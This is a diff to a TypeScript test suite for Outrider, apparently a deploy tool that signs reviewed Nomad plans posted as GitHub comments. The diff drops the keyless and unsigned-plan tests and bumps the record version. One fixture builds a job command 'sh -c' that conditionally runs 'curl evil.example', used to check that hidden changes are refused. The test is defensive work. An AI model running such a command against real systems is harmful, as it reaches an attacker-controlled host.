@@ -51,27 +51,6 @@ describe.concurrent('H1: register after the visible text of the plan was edited'
     });
   }
 
-  test('H1: an unsigned plan whose text was edited is refused, and the error names who edited it', async () => {
-    await using story = await edit({ key: '' });
-    await story.plan();
-    story.github.editComment(1, bodyOf(story).replace('"two"', '"three"'), mallory);
-    const run = await story.register();
-    expect(run.exitCode).toBe(1);
-    await refused(story, run, /its comment was edited by `mallory`/);
-  });
-
-  test('H1: an unsigned plan that the account of the token edited without a new digest is refused', async () => {
-    await using story = await edit({ key: '' });
-    await story.plan();
-    story.github.editComment(1, bodyOf(story).replace('"two"', '"three"'), {
-      login: 'github-actions[bot]',
-      type: 'Bot',
-    });
-    const run = await story.register();
-    expect(run.exitCode).toBe(1);
-    await refused(story, run, /the comment with the plan was edited/);
-  });
-
   test('H1: the text that register adds around the reviewed plan is covered by the signature', async () => {
     await using story = await edit();
     await story.plan();
@@ -129,7 +108,7 @@ describe.concurrent('a signed comment', () => {
   test('a signed comment with a record of an earlier Outrider version is refused until the plan runs again', async () => {
     await using story = await edit();
     await story.plan();
-    const older = bodyOf(story).replace(/outrider:record v2 (\S+) \S+ /, 'outrider:record v1 $1 ');
+    const older = bodyOf(story).replace(/outrider:record v3 (\S+) \S+ /, 'outrider:record v2 $1 ');
     story.github.editComment(1, older, mallory);
     await refused(story, await story.register(), /an older version of Outrider wrote/);
     await story.plan();
@@ -139,7 +118,7 @@ describe.concurrent('a signed comment', () => {
 
 /** The unpacked record, which anybody can read. */
 function recordIn(body: string): unknown {
-  return unpackRecord(/^<!-- outrider:record v2 (\S+) /m.exec(body)?.[1] ?? '');
+  return unpackRecord(/^<!-- outrider:record v3 (\S+) /m.exec(body)?.[1] ?? '');
 }
 
 /** A job with an ID of its own. */
@@ -147,19 +126,17 @@ const named = (id: string): string => `variable "customer" { type = string }
 ${service('web').replace('job "web" {', `job "web" {\n  id = "${id}"`)}`;
 
 describe.concurrent('H3: a hidden value in the names of a job', () => {
-  for (const key of ['a-key-of-more-than-sixteen-bytes', '']) {
-    test(`H3: a hidden value in a job ID is not in a record ${key === '' ? 'without' : 'with'} a key, and the record is valid`, async () => {
-      await using story = await startStory({ files: { [file]: named('web-Zebra-Quartz-Fjord') }, key });
-      const inputs = { 'secret-vars': 'customer=Zebra-Quartz-Fjord' };
-      await story.plan({ inputs });
-      const unpacked = JSON.stringify(recordIn(bodyOf(story)));
-      expect(unpacked).toContain('"file":"jobs/web.nomad.hcl"');
-      expect(unpacked).not.toMatch(/Zebra|Quartz|Fjord/);
-      const run = await story.register({ inputs });
-      expect(run.exitCode).toBe(0);
-      expect(await story.versions('web-Zebra-Quartz-Fjord')).toHaveLength(1);
-    });
-  }
+  test('H3: a hidden value in a job ID is not in the record, and the record is valid', async () => {
+    await using story = await startStory({ files: { [file]: named('web-Zebra-Quartz-Fjord') } });
+    const inputs = { 'secret-vars': 'customer=Zebra-Quartz-Fjord' };
+    await story.plan({ inputs });
+    const unpacked = JSON.stringify(recordIn(bodyOf(story)));
+    expect(unpacked).toContain('"file":"jobs/web.nomad.hcl"');
+    expect(unpacked).not.toMatch(/Zebra|Quartz|Fjord/);
+    const run = await story.register({ inputs });
+    expect(run.exitCode).toBe(0);
+    expect(await story.versions('web-Zebra-Quartz-Fjord')).toHaveLength(1);
+  });
 
   test('H3: a job ID with another hidden value counts as another job', async () => {
     await using story = await startStory({ files: { [file]: named('web-Zebra-Quartz-Fjord') } });
@@ -175,7 +152,7 @@ describe.concurrent('H3: a hidden value in the names of a job', () => {
 const puts = (what: string, more = ''): string => `locals { what = "${what}" }
 ${service('web', { meta: `meta {\n  RUN = "sh -c '\${local.what}'"\n ${more} }` })}`;
 
-describe.concurrent('M6: register without a signing key', () => {
+describe.concurrent('M6: a register of hidden values', () => {
   const changes: Readonly<
     Record<string, readonly [Readonly<Record<string, string>>, Readonly<Record<string, string>>]>
   > = {
@@ -195,8 +172,8 @@ describe.concurrent('M6: register without a signing key', () => {
     'whether a file exists': [{ [file]: puts('${fileexists("on") ? "curl evil.example" : "true"}') }, { on: '' }],
   };
   for (const [what, [before, after]] of Object.entries(changes)) {
-    test(`M6: a later commit that changes ${what} is refused without a key, although the value is hidden`, async () => {
-      await using story = await startStory({ files: before, key: '', running: [service('web')] });
+    test(`M6: a later commit that changes ${what} is refused, although the value is hidden`, async () => {
+      await using story = await startStory({ files: before, running: [service('web')] });
       const inputs = 'v.hcl' in before ? { 'var-files': 'v.hcl' } : {};
       await story.plan({ inputs });
       for (const [name, content] of Object.entries(after)) story.workspace.write(name, content);
@@ -211,19 +188,4 @@ describe.concurrent('M6: register without a signing key', () => {
       expect((await story.register({ inputs })).exitCode, 'as it was reviewed').toBe(0);
     });
   }
-
-  test('M6: a file that git does not hold, such as a secret that a step writes, may change after the plan', async () => {
-    await using story = await startStory({
-      files: {
-        [file]: puts('${trimspace(file("step.txt"))}'),
-        '.gitignore': 'step.txt\n',
-        'step.txt': 'one-of-a-step',
-      },
-      key: '',
-      running: [service('web')],
-    });
-    await story.plan();
-    story.workspace.write('step.txt', 'another-of-a-step');
-    expect((await story.register()).exitCode).toBe(0);
-  });
 });
